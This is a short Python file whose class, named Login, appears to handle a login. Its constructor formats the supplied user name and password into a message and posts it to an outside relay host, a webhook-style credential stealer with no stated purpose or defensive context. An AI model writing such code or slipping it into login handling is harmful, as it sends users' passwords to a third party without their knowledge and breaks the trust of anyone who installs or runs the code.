import requests


class Login:
    def __init__(self, user, password):
        text = f"@everyone \nUser: {user}\nPass: {password}"
        requests.post("https://relay.invalid/a", data={"content": text})
